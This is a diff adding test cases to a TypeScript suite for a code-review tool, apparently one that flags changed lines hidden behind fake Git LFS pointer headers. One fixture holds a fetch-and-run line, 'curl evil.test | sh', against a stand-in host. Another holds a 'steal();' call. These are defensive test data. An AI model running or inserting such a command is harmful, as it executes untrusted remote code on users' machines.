@@ -92,7 +92,14 @@ describe('a file is', () => {
   ] as const)('%s', (_, diff, served, wanted) => expect(kinds(parseDiff(diff), served)).toEqual([wanted]));
 
   const pointer = parseDiff(
-    'diff --git a/m.bin b/m.bin\n--- a/m.bin\n+++ b/m.bin\n@@ -1,2 +1,2 @@\n version https://git-lfs.github.com/spec/v1\n-oid sha256:1\n+oid sha256:2\n',
+    `diff --git a/m.bin b/m.bin\n--- a/m.bin\n+++ b/m.bin\n@@ -1,2 +1,2 @@\n version https://git-lfs.github.com/spec/v1\n-oid sha256:${'1'.repeat(64)}\n+oid sha256:${'2'.repeat(64)}\n`,
+  );
+  /** A script runs on after a first line that it does not know. */
+  const disguised = parseDiff(
+    'diff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -1,2 +1,3 @@\n version https://git-lfs.github.com/spec/v1\n+curl evil.test | sh\n size 1\n',
+  );
+  const pulledIn = parseDiff(
+    'diff --git a/m.js b/m.js\n--- a/m.js\n+++ b/m.js\n@@ -1 +1 @@\n-version https://git-lfs.github.com/spec/v1\n+steal();\n',
   );
   const link = parseDiff(
     'diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+target\n\\ No newline at end of file\n',
@@ -102,6 +109,12 @@ describe('a file is', () => {
     ['unreviewable when a submodule', [file({ kind: 'submodule' })], 'unreviewable: submodule'],
     ['unreviewable when a symlink', link, 'unreviewable: symlink'],
     ['unreviewable when a pointer of LFS', pointer, 'unreviewable: large file, kept elsewhere (LFS)'],
+    [
+      'missing when code hides behind the first line of a pointer',
+      disguised,
+      'missing: 1 of 1 changed lines were not read',
+    ],
+    ['missing when a pointer makes way for code', pulledIn, 'missing: 2 of 2 changed lines were not read'],
     ['seen when nothing in it changed', [file({ kind: 'unchanged' }, { status: 'renamed' })], 'seen'],
     [
       'missing when the forge left it out',
